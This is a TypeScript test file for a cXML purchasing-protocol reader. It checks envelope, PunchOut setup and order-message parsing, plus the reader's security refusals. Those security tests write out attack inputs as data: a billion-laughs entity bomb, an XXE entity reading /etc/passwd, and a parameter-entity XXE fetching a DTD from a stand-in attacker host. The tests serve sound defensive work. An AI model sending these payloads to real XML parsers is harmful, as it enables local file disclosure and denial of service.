import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { Decimal } from 'decimal.js';
import { buildLargeOrderRequest } from '../../../bench/cxml-reader.bench.js';
import { CxmlError } from '../../../src/protocol/cxml/errors.js';
import type {
  CxmlPayload,
  OrderRequest,
  OtherPayload,
  PunchOutOrderMessage,
  PunchOutSetupRequest,
  PunchOutSetupResponse,
  ReadResult,
  StatusResponse,
} from '../../../src/protocol/cxml/model.js';
import { maskCardNumber } from '../../../src/protocol/cxml/read-payloads.js';
import { readCxml, type ReadOptions } from '../../../src/protocol/cxml/reader.js';

// ---------------------------------------------------------------------------------------------
// Small document builders: every test writes its own input.

const DOCTYPE = '<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">';
const HEADER =
  '<Header>' +
  '<From><Credential domain="NetworkID"><Identity>AN-BUYER</Identity></Credential></From>' +
  '<To><Credential domain="DUNS"><Identity>KOPPEL</Identity></Credential></To>' +
  '<Sender><Credential domain="NetworkID"><Identity>AN-BUYER</Identity><SharedSecret>s3cret</SharedSecret></Credential>' +
  '<UserAgent>Test Buyer 1.0</UserAgent></Sender>' +
  '</Header>';

function envelope(body: string, { root = 'cXML', header = HEADER, rootAttrs = '' } = {}): string {
  return (
    `<?xml version="1.0" encoding="UTF-8"?>\n${DOCTYPE}\n` +
    `<${root} payloadID="p-1@buyer.example" timestamp="2026-01-31T14:05:00+01:00" xml:lang="en-US"${rootAttrs}>` +
    `${header}${body}</${root}>`
  );
}

function request(payload: string, attrs = ''): string {
  return envelope(`<Request${attrs}>${payload}</Request>`);
}

function setupRequest(inner: string, attrs = ' operation="create"'): string {
  return request(`<PunchOutSetupRequest${attrs}>${inner}</PunchOutSetupRequest>`);
}

const MONEY = (amount: string, currency = 'EUR'): string => `<Money currency="${currency}">${amount}</Money>`;

function itemDetail(price = '10.00', extra = ''): string {
  return (
    `<ItemDetail><UnitPrice>${MONEY(price)}</UnitPrice>` +
    '<Description xml:lang="en"><ShortName>Chair</ShortName>Office chair, black</Description>' +
    `<UnitOfMeasure>EA</UnitOfMeasure><Classification domain="UNSPSC">56101504</Classification>${extra}</ItemDetail>`
  );
}

function itemOut(attrs = ' quantity="1" lineNumber="1"', inner = ''): string {
  return `<ItemOut${attrs}><ItemID><SupplierPartID>SKU-1</SupplierPartID></ItemID>${itemDetail()}${inner}</ItemOut>`;
}

function orderRequest(headerInner = '', items = itemOut(), headerAttrs = ' orderID="PO-1" orderDate="2026-01-31T14:05:00+01:00" type="new"'): string {
  return request(
    `<OrderRequest><OrderRequestHeader${headerAttrs}><Total>${MONEY('10.00')}</Total>` +
      `<BillTo><Address><Name xml:lang="en">Acme</Name></Address></BillTo>${headerInner}</OrderRequestHeader>${items}</OrderRequest>`,
  );
}

function poom(inner: string, headerAttrs = ' operationAllowed="edit"', messageAttrs = '', status = ''): string {
  return envelope(
    `<Message${messageAttrs}>${status}<PunchOutOrderMessage><BuyerCookie>cookie-1</BuyerCookie>` +
      `<PunchOutOrderMessageHeader${headerAttrs}><Total>${MONEY('10.00')}</Total></PunchOutOrderMessageHeader>` +
      `${inner}</PunchOutOrderMessage></Message>`,
  );
}

function payloadOf<K extends CxmlPayload['kind']>(result: ReadResult, kind: K): Extract<CxmlPayload, { kind: K }> {
  const payload = result.envelope.payload;
  assert.equal(payload.kind, kind);
  return payload as Extract<CxmlPayload, { kind: K }>;
}

function refuses(xml: string | Buffer, code: number, pattern: RegExp, options?: ReadOptions): CxmlError {
  let caught: unknown;
  try {
    readCxml(xml, options);
  } catch (err) {
    caught = err;
  }
  assert.ok(caught instanceof CxmlError, `expected a CxmlError, got ${String(caught)}`);
  assert.equal(caught.code, code, caught.message);
  assert.match(caught.message, pattern);
  return caught;
}

function warningsMatching(result: ReadResult, pattern: RegExp): string[] {
  return result.warnings.filter((w) => pattern.test(`${w.path} ${w.message}`)).map((w) => w.path);
}

// ---------------------------------------------------------------------------------------------

describe('security: nothing is loaded, nothing is expanded', () => {
  it('refuses billion laughs (internal subset) before any expansion', () => {
    const lol =
      '<?xml version="1.0"?>\n<!DOCTYPE cXML [\n <!ENTITY lol "lol">\n' +
      Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n') +
      '\n]>\n<cXML payloadID="x" timestamp="2026-01-01T00:00:00+00:00"><Response><Status code="200" text="&lol9;"/></Response></cXML>';
    refuses(lol, 406, /internal DTD subset/);
  });

  it('refuses XXE with a SYSTEM entity pointing at /etc/passwd, leaking nothing', () => {
    const xxe =
      '<?xml version="1.0"?>\n<!DOCTYPE cXML [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n' +
      '<cXML payloadID="x" timestamp="2026-01-01T00:00:00+00:00"><Response><Status code="200" text="OK">&xxe;</Status></Response></cXML>';
    const err = refuses(xxe, 406, /internal DTD subset/);
    assert.doesNotMatch(err.message, /root:/);
  });

  it('refuses a parameter-entity XXE (external DTD pulled in from the internal subset)', () => {
    const xxe =
      '<!DOCTYPE cXML [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>' +
      '<cXML payloadID="x" timestamp="2026-01-01T00:00:00+00:00"><Response><Status code="200" text="OK"/></Response></cXML>';
    refuses(xxe, 406, /internal DTD subset/);
  });

  it('accepts an external DTD reference in the DOCTYPE without loading it', () => {
    // Neither a local file nor an unreachable host is touched: the read is purely in memory.
    for (const systemId of ['file:///etc/passwd', 'http://127.0.0.1:9/never/cXML.dtd', '/nonexistent/cXML.dtd']) {
      const xml =
        `<!DOCTYPE cXML SYSTEM "${systemId}">` +
        '<cXML payloadID="x" timestamp="2026-01-01T00:00:00+00:00"><Response><Status code="200" text="OK"/></Response></cXML>';
      const result = readCxml(xml);
      assert.equal(result.envelope.doctype?.systemId, systemId);
      assert.equal(payloadOf(result, 'Status').status.code, 200);
    }
  });

  it('refuses an entity reference that is not one of the five XML entities, naming it', () => {
    refuses(setupRequest('<BuyerCookie>&xxe;</BuyerCookie>'), 406, /&xxe;.*not allowed/);
    refuses(setupRequest('<BuyerCookie>c</BuyerCookie><Extrinsic name="&nbsp;">x</Extrinsic>'), 406, /&nbsp;/);
  });

  it('decodes the five XML entities and numeric character references', () => {
    const result = readCxml(setupRequest('<BuyerCookie>c</BuyerCookie><Extrinsic name="Text">&lt;a&gt; &amp; &quot;b&quot; &apos;c&apos; &#233;&#x20AC;</Extrinsic>'));
    assert.equal(payloadOf(result, 'PunchOutSetupRequest').extrinsics[0]?.value, `<a> & "b" 'c' é€`);
  });

  it('refuses malformed XML with the position of the problem', () => {
    refuses(setupRequest('<BuyerCookie>c</Buyercookie>'), 406, /not well-formed XML at line \d+, column \d+: unexpected close tag/);
    refuses(envelope('<Response><Status code=200 text="OK"/></Response>'), 406, /line 3, column \d+/);
    refuses('<cXML payloadID="x" timestamp="t"><Response><Status code="200" text="OK"/></Response></cXML><extra/>', 406, /not well-formed/);
    refuses('<cXML payloadID="x"', 406, /not well-formed/);
  });

  it('refuses an empty body', () => {
    refuses('', 406, /empty document/);
    refuses(' \r\n\t', 406, /empty document/);
    refuses(Buffer.alloc(0), 406, /empty document/);
  });

  it('refuses a document whose root is not cXML', () => {
    refuses('<html><body>Gateway Timeout</body></html>', 406, /not a cXML document: the root element is <html>/);
    refuses('<?xml version="1.0"?><OrderRequest/>', 406, /root element is <OrderRequest>/);
  });

  it('refuses a document over maxBytes with 499, counting UTF-8 bytes', () => {
    const xml = request('<ProfileRequest/>');
    assert.equal(readCxml(xml, { maxBytes: Buffer.byteLength(xml) }).envelope.payload.kind, 'ProfileRequest');
    refuses(xml, 499, new RegExp(`${Buffer.byteLength(xml)} bytes, more than the ${Buffer.byteLength(xml) - 1} bytes`), {
      maxBytes: Buffer.byteLength(xml) - 1,
    });
    // "ü" is two bytes: the limit is on bytes, not characters.
    const umlaut = xml.replace('Test Buyer 1.0', 'Würth');
    refuses(umlaut, 499, /Document|bytes/, { maxBytes: umlaut.length });
    const huge = setupRequest(`<BuyerCookie>${'x'.repeat(2_000_000)}</BuyerCookie>`);
    refuses(Buffer.from(huge), 499, /more than the 1000000 bytes/, { maxBytes: 1_000_000 });
  });

  it('refuses absurdly deep nesting', () => {
    const deep = `${'<Extrinsic name="x">'.repeat(500)}${'</Extrinsic>'.repeat(500)}`;
    refuses(setupRequest(`<BuyerCookie>c</BuyerCookie>${deep}`), 406, /nested deeper than 200/);
  });

  it('rejects bad options as programming errors, not as sender errors', () => {
    assert.throws(() => readCxml(request('<ProfileRequest/>'), { defaultZone: 'Mars/Base' }), RangeError);
    assert.throws(() => readCxml(request('<ProfileRequest/>'), { maxBytes: -1 }), RangeError);
  });
});

describe('tolerance of real-world input', () => {
  it('reads children in any order (Contact before BrowserFormPost, BuyerCookie last)', () => {
    const result = readCxml(
      setupRequest(
        '<Contact role="endUser"><Name xml:lang="en">Jim</Name><Email>jim@example.com</Email></Contact>' +
          '<BrowserFormPost><URL>https://buyer.example/return</URL></BrowserFormPost>' +
          '<Extrinsic name="UserEmail">jim@example.com</Extrinsic>' +
          '<BuyerCookie>late-cookie</BuyerCookie>',
      ),
    );
    const p = payloadOf(result, 'PunchOutSetupRequest');
    assert.equal(p.buyerCookie, 'late-cookie');
    assert.equal(p.browserFormPostUrl, 'https://buyer.example/return');
    assert.deepEqual(p.contacts, [{ role: 'endUser', name: 'Jim', email: 'jim@example.com' }]);
    assert.deepEqual(result.warnings, []);
  });

  it('treats CDATA as ordinary text', () => {
    const result = readCxml(
      poom(
        '<ItemIn quantity="1"><ItemID><SupplierPartID><![CDATA[SKU<1>]]></SupplierPartID></ItemID>' +
          '<ItemDetail><UnitPrice><Money currency="EUR"><![CDATA[12.50]]></Money></UnitPrice>' +
          '<Description xml:lang="en"><ShortName><![CDATA[Tom & Jerry]]></ShortName>Text <![CDATA[with <b>markup</b>]]> inside</Description>' +
          '<UnitOfMeasure>EA</UnitOfMeasure><Classification domain="UNSPSC">1</Classification></ItemDetail></ItemIn>',
      ),
    );
    const item = payloadOf(result, 'PunchOutOrderMessage').items[0];
    assert.equal(item?.itemID.supplierPartID, 'SKU<1>');
    assert.equal(item?.itemDetail.unitPrice.amount.toString(), '12.5');
    assert.deepEqual(item?.itemDetail.descriptions, [{ lang: 'en', text: 'Text with <b>markup</b> inside', shortName: 'Tom & Jerry' }]);
  });

  it('ignores unknown elements and attributes with a warning and keeps reading around them', () => {
    const result = readCxml(
      setupRequest(
        '<BuyerCookie>c</BuyerCookie>' +
          '<Foo bar="1"><Extrinsic name="hidden">inside unknown</Extrinsic></Foo>' +
          '<Extrinsic name="after" colour="blue">still read</Extrinsic>' +
          `<ItemOut quantity="2" flavour="x"><ItemID><SupplierPartID>A</SupplierPartID><Gadget/></ItemID>${itemDetail()}</ItemOut>`,
      ),
    );
    const p = payloadOf(result, 'PunchOutSetupRequest');
    assert.deepEqual(p.extrinsics, [{ name: 'after', value: 'still read' }]);
    assert.equal(p.itemOut[0]?.itemID.supplierPartID, 'A');
    assert.equal(p.itemOut[0]?.quantity.toString(), '2');
    assert.deepEqual(result.warnings, [
      { path: 'cXML/Request/PunchOutSetupRequest/Foo', message: 'unknown element Foo ignored' },
      { path: 'cXML/Request/PunchOutSetupRequest/Extrinsic@colour', message: 'unknown attribute colour ignored' },
      { path: 'cXML/Request/PunchOutSetupRequest/ItemOut@flavour', message: 'unknown attribute flavour ignored' },
      { path: 'cXML/Request/PunchOutSetupRequest/ItemOut/ItemID/Gadget', message: 'unknown element Gadget ignored' },
    ]);
  });

  it('refuses unknown elements in strict mode, naming the path', () => {
    const xml = setupRequest('<BuyerCookie>c</BuyerCookie><Foo/>');
    refuses(xml, 406, /^cXML\/Request\/PunchOutSetupRequest\/Foo: unknown element Foo/, { strict: true });
  });

  it('reads a lower-case root (fixture 13 style) with a warning; strict refuses it', () => {
    const xml = envelope('<Response><Status code="200" text="OK"/></Response>', { root: 'cxml', header: '' });
    const result = readCxml(xml);
    assert.equal(payloadOf(result, 'Status').status.code, 200);
    assert.deepEqual(result.warnings, [{ path: 'cxml', message: 'root element <cxml> should be <cXML>; read as cXML' }]);
    refuses(xml, 406, /root element <cxml>/, { strict: true });
  });

  it('reads documents without XML declaration and without DOCTYPE', () => {
    const result = readCxml('<cXML payloadID="a" timestamp="2026-01-01T00:00:00+00:00"><Response><Status code="200" text="OK"/></Response></cXML>');
    assert.equal(result.envelope.doctype, undefined);
    assert.equal(result.envelope.payloadID, 'a');
  });

  it('tolerates whitespace before the XML declaration, with a warning', () => {
    const result = readCxml(`\n  ${request('<ProfileRequest/>')}`);
    assert.equal(result.envelope.payload.kind, 'ProfileRequest');
    assert.deepEqual(result.warnings, [{ path: '', message: 'whitespace before the XML declaration ignored' }]);
  });

  it('reads single-quoted attributes', () => {
    const result = readCxml(
      `<cXML payloadID='sq-1' timestamp='2026-01-01T00:00:00+00:00'><Response><Status code='201' text='Accepted'/></Response></cXML>`,
    );
    assert.equal(result.envelope.payloadID, 'sq-1');
    assert.deepEqual(payloadOf(result, 'Status').status, { code: 201, text: 'Accepted' });
  });

  it('trims URLs, identities and domains but keeps BuyerCookie and SupplierPartAuxiliaryID byte for byte', () => {
    const header =
      '<Header><From><Credential domain="  NetworkID \n"><Identity>\n   AN-1  </Identity></Credential></From>' +
      '<To><Credential domain="DUNS"><Identity> 42 </Identity></Credential></To>' +
      '<Sender><Credential domain="NetworkID"><Identity>AN-1</Identity><SharedSecret>\n  pw \n</SharedSecret></Credential><UserAgent> UA </UserAgent></Sender></Header>';
    const xml = envelope(
      '<Request><PunchOutSetupRequest operation="edit"><BuyerCookie>\n   Cookie  With Space \n</BuyerCookie>' +
        '<BrowserFormPost><URL>\n    https://buyer.example/return?x=1&amp;y=2\n  </URL></BrowserFormPost>' +
        '<SupplierSetup><URL> http://shop.example/cxml </URL></SupplierSetup>' +
        `<ItemOut quantity=" 3 "><ItemID><SupplierPartID> SKU-9 </SupplierPartID><SupplierPartAuxiliaryID>aux@10\n    </SupplierPartAuxiliaryID></ItemID></ItemOut>` +
        '</PunchOutSetupRequest></Request>',
      { header },
    );
    const { envelope: env } = readCxml(xml);
    const p = env.payload as PunchOutSetupRequest;
    assert.equal(p.buyerCookie, '\n   Cookie  With Space \n');
    assert.equal(p.browserFormPostUrl, 'https://buyer.example/return?x=1&y=2');
    assert.equal(p.supplierSetupUrl, 'http://shop.example/cxml');
    assert.equal(p.itemOut[0]?.itemID.supplierPartID, 'SKU-9');
    assert.equal(p.itemOut[0]?.itemID.supplierPartAuxiliaryID, 'aux@10\n    ');
    assert.equal(p.itemOut[0]?.quantity.toString(), '3');
    assert.deepEqual(env.header?.from.credentials, [{ domain: 'NetworkID', identity: 'AN-1' }]);
    assert.equal(env.header?.to.credentials[0]?.identity, '42');
    assert.equal(env.header?.sender.credentials[0]?.sharedSecret, 'pw');
    assert.equal(env.header?.sender.userAgent, 'UA');
  });

  it('decodes Buffers by BOM or by the declared encoding', () => {
    const xml = request('<PunchOutSetupRequest operation="create"><BuyerCookie>Würth €</BuyerCookie></PunchOutSetupRequest>');
    const utf8 = readCxml(Buffer.from(xml, 'utf8'));
    assert.equal(payloadOf(utf8, 'PunchOutSetupRequest').buyerCookie, 'Würth €');
    const bom = readCxml(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xml, 'utf8')]));
    assert.equal(payloadOf(bom, 'PunchOutSetupRequest').buyerCookie, 'Würth €');
    const utf16 = readCxml(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml.replace('UTF-8', 'UTF-16'), 'utf16le')]));
    assert.equal(payloadOf(utf16, 'PunchOutSetupRequest').buyerCookie, 'Würth €');
    const latin1Xml = xml.replace('UTF-8', 'ISO-8859-1').replace(' €', '');
    const latin1 = readCxml(Buffer.from(latin1Xml, 'latin1'));
    assert.equal(payloadOf(latin1, 'PunchOutSetupRequest').buyerCookie, 'Würth');
  });

  it('refuses bytes that are not valid in the declared encoding, and unknown encodings', () => {
    const xml = request('<PunchOutSetupRequest operation="create"><BuyerCookie>Würth</BuyerCookie></PunchOutSetupRequest>');
    refuses(Buffer.from(xml, 'latin1'), 406, /not valid utf-8/);
    refuses(Buffer.from(xml.replace('UTF-8', 'X-KLINGON'), 'utf8'), 406, /unsupported document encoding "x-klingon"/);
  });
});

describe('envelope', () => {
  it('reads payloadID, timestamp, version, xml:lang and the DOCTYPE version and file', () => {
    const { envelope: env } = readCxml(envelope('<Response><Status code="200" text="OK"/></Response>', { header: '', rootAttrs: ' version="1.2.045"' }));
    assert.equal(env.payloadID, 'p-1@buyer.example');
    assert.deepEqual(env.timestamp, { raw: '2026-01-31T14:05:00+01:00', instant: new Date('2026-01-31T13:05:00Z') });
    assert.equal(env.version, '1.2.045');
    assert.equal(env.lang, 'en-US');
    assert.deepEqual(env.doctype, { systemId: 'http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd', version: '1.2.014', file: 'cXML.dtd' });
    assert.equal(env.header, undefined);
    assert.equal(env.deploymentMode, 'production');
  });

  it('reads DOCTYPE system ids from xml.cXML.org, custom DTDs and PUBLIC ids', () => {
    const body = '<cXML payloadID="a" timestamp="2026-01-01T00:00:00+00:00"><Response><Status code="200" text="OK"/></Response></cXML>';
    const doctypeOf = (dt: string) => readCxml(dt + body).envelope.doctype;
    assert.deepEqual(doctypeOf(`<!DOCTYPE cXML SYSTEM 'http://xml.cXML.org/schemas/cXML/1.1.010/cXML.dtd'>`), {
      systemId: 'http://xml.cXML.org/schemas/cXML/1.1.010/cXML.dtd',
      version: '1.1.010',
      file: 'cXML.dtd',
    });
    assert.deepEqual(doctypeOf('<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.020/InvoiceDetail.dtd">'), {
      systemId: 'http://xml.cxml.org/schemas/cXML/1.2.020/InvoiceDetail.dtd',
      version: '1.2.020',
      file: 'InvoiceDetail.dtd',
    });
    assert.deepEqual(doctypeOf('<!DOCTYPE cXML SYSTEM "Custom.dtd">'), { systemId: 'Custom.dtd', file: 'Custom.dtd' });
    assert.deepEqual(doctypeOf('<!DOCTYPE cXML PUBLIC "-//Example//cXML//EN" "https://dtd.example/cxml/1.2.071/cXML.dtd">'), {
      systemId: 'https://dtd.example/cxml/1.2.071/cXML.dtd',
      version: '1.2.071',
      file: 'cXML.dtd',
    });
    assert.equal(doctypeOf('<!DOCTYPE cXML>'), undefined);
  });

  it('reads every From credential with its type; SharedSecret only under Sender', () => {
    const header =
      '<Header><From>' +
      '<Credential domain="NetworkID"><Identity>AN-1</Identity><SharedSecret>from-secret-XYZ</SharedSecret></Credential>' +
      '<Credential domain="DUNS" type="marketplace"><Identity>123456789</Identity></Credential>' +
      '</From><To><Credential domain="DUNS"><Identity>KOPPEL</Identity><SharedSecret>to-secret-XYZ</SharedSecret></Credential></To>' +
      '<Sender><Credential domain="NetworkID"><Identity>AN-1</Identity><SharedSecret>real</SharedSecret></Credential><UserAgent>UA</UserAgent></Sender></Header>';
    const result = readCxml(envelope('<Request><ProfileRequest/></Request>', { header }));
    const h = result.envelope.header;
    assert.deepEqual(h?.from.credentials, [
      { domain: 'NetworkID', identity: 'AN-1' },
      { domain: 'DUNS', identity: '123456789', type: 'marketplace' },
    ]);
    assert.deepEqual(h?.to.credentials, [{ domain: 'DUNS', identity: 'KOPPEL' }]);
    assert.deepEqual(h?.sender, { credentials: [{ domain: 'NetworkID', identity: 'AN-1', sharedSecret: 'real' }], userAgent: 'UA' });
    assert.deepEqual(warningsMatching(result, /SharedSecret outside Sender/), [
      'cXML/Header/From/Credential[1]/SharedSecret',
      'cXML/Header/To/Credential/SharedSecret',
    ]);
    // The ignored secrets appear nowhere, not even in the warnings.
    assert.doesNotMatch(JSON.stringify(result), /secret-XYZ/);
  });

  it('reads deploymentMode (default production) and Message@inReplyTo', () => {
    assert.equal(readCxml(request('<ProfileRequest/>')).envelope.deploymentMode, 'production');
    assert.equal(readCxml(request('<ProfileRequest/>', ' deploymentMode="test"')).envelope.deploymentMode, 'test');
    const message = readCxml(poom('', ' operationAllowed="create"', ' deploymentMode="test" inReplyTo="setup-1@buyer"'));
    assert.equal(message.envelope.deploymentMode, 'test');
    assert.equal(message.envelope.inReplyTo, 'setup-1@buyer');
    refuses(request('<ProfileRequest/>', ' deploymentMode="staging"'), 400, /deploymentMode "staging"/);
  });

  it('requires a Header on a Request and a Message', () => {
    refuses(envelope('<Request><ProfileRequest/></Request>', { header: '' }), 406, /^cXML: element Header is required with a Request/);
    refuses(envelope('<Message><PunchOutOrderMessage/></Message>', { header: '' }), 406, /Header is required with a Message/);
  });

  it('requires payloadID, timestamp and exactly one body with one payload', () => {
    refuses('<cXML timestamp="2026-01-01T00:00:00Z"><Response><Status code="200" text="OK"/></Response></cXML>', 406, /cXML: attribute payloadID is required/);
    refuses('<cXML payloadID="a"><Response><Status code="200" text="OK"/></Response></cXML>', 406, /attribute timestamp is required/);
    refuses(envelope(''), 406, /needs a Request, Message or Response/);
    refuses(envelope('<Request><ProfileRequest/></Request><Response><Status code="200" text="OK"/></Response>'), 406, /only one of Request, Message, Response/);
    refuses(request('<ProfileRequest/><OrderRequest/>'), 406, /exactly one payload element expected, got ProfileRequest, OrderRequest/);
    refuses(request(''), 406, /a Request needs a payload element/);
    refuses(envelope('<Response></Response>', { header: '' }), 406, /Status is required in a Response/);
  });

  it('keeps an unparseable timestamp raw with a warning instead of refusing', () => {
    const xml = request('<ProfileRequest/>').replace('2026-01-31T14:05:00+01:00', 'yesterday noon');
    const result = readCxml(xml);
    assert.deepEqual(result.envelope.timestamp, { raw: 'yesterday noon' });
    assert.deepEqual(result.warnings, [{ path: 'cXML@timestamp', message: 'timestamp "yesterday noon" is not understood; kept as text' }]);
  });

  it('applies the default zone to a zone-less timestamp, with a warning', () => {
    const xml = request('<ProfileRequest/>').replace('2026-01-31T14:05:00+01:00', '2026-01-31T14:05:00');
    const result = readCxml(xml, { defaultZone: '-05:00' });
    assert.equal(result.envelope.timestamp.instant?.toISOString(), '2026-01-31T19:05:00.000Z');
    assert.equal(result.envelope.timestamp.zoneAssumed, true);
    assert.deepEqual(result.warnings, [{ path: 'cXML@timestamp', message: 'timestamp "2026-01-31T14:05:00" has no time zone; -05:00 assumed' }]);
  });

  it('ignores a Header on a Response with a warning', () => {
    const result = readCxml(envelope('<Response><Status code="200" text="OK"/></Response>'));
    assert.equal(result.envelope.header, undefined);
    assert.deepEqual(warningsMatching(result, /Header/), ['cXML/Header']);
  });

  it('requires credentials with domain and Identity', () => {
    const noCred = HEADER.replace('<From><Credential domain="NetworkID"><Identity>AN-BUYER</Identity></Credential></From>', '<From></From>');
    refuses(envelope('<Request><ProfileRequest/></Request>', { header: noCred }), 406, /cXML\/Header\/From: at least one Credential/);
    const noDomain = HEADER.replace('<To><Credential domain="DUNS">', '<To><Credential>');
    refuses(envelope('<Request><ProfileRequest/></Request>', { header: noDomain }), 406, /cXML\/Header\/To\/Credential: attribute domain is required/);
  });
});

describe('PunchOutSetupRequest', () => {
  it('reads a full create request', () => {
    const result = readCxml(
      setupRequest(
        '<BuyerCookie>abc123</BuyerCookie>' +
          '<Extrinsic name="UserEmail">jim@example.com</Extrinsic><Extrinsic name="CostCenter"><b>42</b>-A</Extrinsic>' +
          '<BrowserFormPost><URL>https://buyer.example/return</URL></BrowserFormPost>' +
          '<Contact role="endUser"><Name xml:lang="en">Jim</Name><Email>jim@example.com</Email>' +
          '<Phone name="work"><TelephoneNumber><CountryCode isoCountryCode="US">1</CountryCode><AreaOrCityCode>800</AreaOrCityCode><Number>5551212</Number><Extension>12</Extension></TelephoneNumber></Phone></Contact>' +
          '<SupplierSetup><URL>https://shop.example/cxml</URL></SupplierSetup>' +
          '<ShipTo><Address isoCountryCode="DE" addressID="A-7" addressIDDomain="buyer"><Name xml:lang="de">Werk 7</Name>' +
          '<PostalAddress name="Lager"><DeliverTo>Tor 3</DeliverTo><DeliverTo>Frau Muster</DeliverTo><Street>Hauptstr. 1</Street>' +
          '<City>Köln</City><Municipality>Ehrenfeld</Municipality><State>NW</State><PostalCode>50667</PostalCode><Country isoCountryCode="DE">Deutschland</Country></PostalAddress>' +
          '<Email>lager@example.de</Email><URL>https://example.de</URL></Address>' +
          '<CarrierIdentifier domain="companyName">DHL</CarrierIdentifier></ShipTo>' +
          '<SelectedItem><ItemID><SupplierPartID>SKU-7</SupplierPartID><BuyerPartID>B-7</BuyerPartID></ItemID></SelectedItem>',
      ),
    );
    const p = payloadOf(result, 'PunchOutSetupRequest');
    assert.deepEqual(p, {
      kind: 'PunchOutSetupRequest',
      operation: 'create',
      buyerCookie: 'abc123',
      extrinsics: [
        { name: 'UserEmail', value: 'jim@example.com' },
        { name: 'CostCenter', value: '42-A' },
      ],
      browserFormPostUrl: 'https://buyer.example/return',
      contacts: [
        {
          role: 'endUser',
          name: 'Jim',
          email: 'jim@example.com',
          phone: { name: 'work', countryCode: '1', isoCountryCode: 'US', areaOrCityCode: '800', number: '5551212', extension: '12' },
        },
      ],
      supplierSetupUrl: 'https://shop.example/cxml',
      shipTo: {
        name: 'Werk 7',
        isoCountryCode: 'DE',
        addressID: 'A-7',
        addressIDDomain: 'buyer',
        postalAddress: {
          name: 'Lager',
          deliverTo: ['Tor 3', 'Frau Muster'],
          street: ['Hauptstr. 1'],
          city: 'Köln',
          municipality: 'Ehrenfeld',
          state: 'NW',
          postalCode: '50667',
          country: 'Deutschland',
          countryCode: 'DE',
        },
        email: 'lager@example.de',
        url: 'https://example.de',
      },
      selectedItem: { supplierPartID: 'SKU-7', buyerPartID: 'B-7' },
      itemOut: [],
    });
    // Extrinsic content is ANY: markup inside is flattened without a warning.
    assert.deepEqual(result.warnings, []);
  });

  it('reads operation from the attribute; create only when it is absent', () => {
    const edit = readCxml(setupRequest(`<BuyerCookie>c</BuyerCookie>${itemOut(' quantity="2" lineNumber="10"', '')}`, ' operation="edit"'));
    assert.equal(payloadOf(edit, 'PunchOutSetupRequest').operation, 'edit');
    assert.equal(payloadOf(readCxml(setupRequest('<BuyerCookie>c</BuyerCookie>', ' operation="inspect"')), 'PunchOutSetupRequest').operation, 'inspect');
    const absent = readCxml(setupRequest('<BuyerCookie>c</BuyerCookie>', ''));
    assert.equal(payloadOf(absent, 'PunchOutSetupRequest').operation, 'create');
    assert.deepEqual(absent.warnings, [{ path: 'cXML/Request/PunchOutSetupRequest@operation', message: 'operation is missing; create assumed' }]);
  });

  it('refuses an unknown or blank operation with 400 naming it', () => {
    refuses(setupRequest('<BuyerCookie>c</BuyerCookie>', ' operation="delete"'), 400, /PunchOutSetupRequest@operation: unknown operation "delete" \(expected create, edit, inspect, source\)/);
    refuses(setupRequest('<BuyerCookie>c</BuyerCookie>', ' operation="Create"'), 400, /unknown operation "Create"/);
    refuses(setupRequest('<BuyerCookie>c</BuyerCookie>', ' operation=""'), 400, /unknown operation ""/);
  });

  it('requires a BuyerCookie; an empty one is read with a warning', () => {
    refuses(setupRequest('<Extrinsic name="x">y</Extrinsic>'), 406, /cXML\/Request\/PunchOutSetupRequest: element BuyerCookie is required/);
    const empty = readCxml(setupRequest('<BuyerCookie/>'));
    assert.equal(payloadOf(empty, 'PunchOutSetupRequest').buyerCookie, '');
    assert.deepEqual(warningsMatching(empty, /BuyerCookie is empty/), ['cXML/Request/PunchOutSetupRequest/BuyerCookie']);
  });
});

describe('PunchOutSetupResponse and ProfileResponse', () => {
  it('reads the StartPage URL trimmed', () => {
    const result = readCxml(
      envelope('<Response><Status code="200" text="OK"/><PunchOutSetupResponse><StartPage><URL>\n https://shop.example/start?t=abc \n</URL></StartPage></PunchOutSetupResponse></Response>', { header: '' }),
    );
    assert.deepEqual(result.envelope.payload as PunchOutSetupResponse, {
      kind: 'PunchOutSetupResponse',
      status: { code: 200, text: 'OK' },
      startPageUrl: 'https://shop.example/start?t=abc',
    });
  });

  it('reads ProfileResponse options and transactions', () => {
    const result = readCxml(
      envelope(
        '<Response><Status code="200" text="OK"/><ProfileResponse effectiveDate="2026-01-01T00:00:00+01:00">' +
          '<Option name="Service.name">Koppel</Option>' +
          '<Transaction requestName="OrderRequest"><URL>https://shop.example/cxml</URL><Option name="attachments">no</Option></Transaction>' +
          '</ProfileResponse></Response>',
        { header: '' },
      ),
    );
    const p = payloadOf(result, 'ProfileResponse');
    assert.deepEqual(p.options, [{ name: 'Service.name', value: 'Koppel' }]);
    assert.deepEqual(p.transactions, [{ requestName: 'OrderRequest', url: 'https://shop.example/cxml', options: [{ name: 'attachments', value: 'no' }] }]);
    assert.equal((p.effectiveDate as { instant?: Date }).instant?.toISOString(), '2025-12-31T23:00:00.000Z');
  });
});

describe('PunchOutOrderMessage', () => {
  it('reads header and items', () => {
    const item =
      '<ItemIn quantity="2" lineNumber="1" parentLineNumber="0" itemType="item" itemClassification="material">' +
      '<ItemID><SupplierPartID>SKU-1</SupplierPartID><SupplierPartAuxiliaryID>cart:7</SupplierPartAuxiliaryID></ItemID>' +
      `<ItemDetail><UnitPrice>${MONEY('104.99', 'USD')}</UnitPrice>` +
      '<Description xml:lang="en">  <ShortName>Chair</ShortName>\n  Excelsior desk chair  </Description>' +
      '<Description xml:lang="de">Schreibtischstuhl</Description>' +
      '<UnitOfMeasure>EA</UnitOfMeasure>' +
      '<PriceBasisQuantity quantity="2" conversionFactor="0.5"><UnitOfMeasure>BX</UnitOfMeasure></PriceBasisQuantity>' +
      '<Classification domain="UNSPSC">56101504</Classification><Classification domain="eCLASS" code="24-38-01-01"/>' +
      '<ManufacturerPartID>MP-1</ManufacturerPartID><ManufacturerName>Maker</ManufacturerName><URL>https://shop.example/p/1</URL>' +
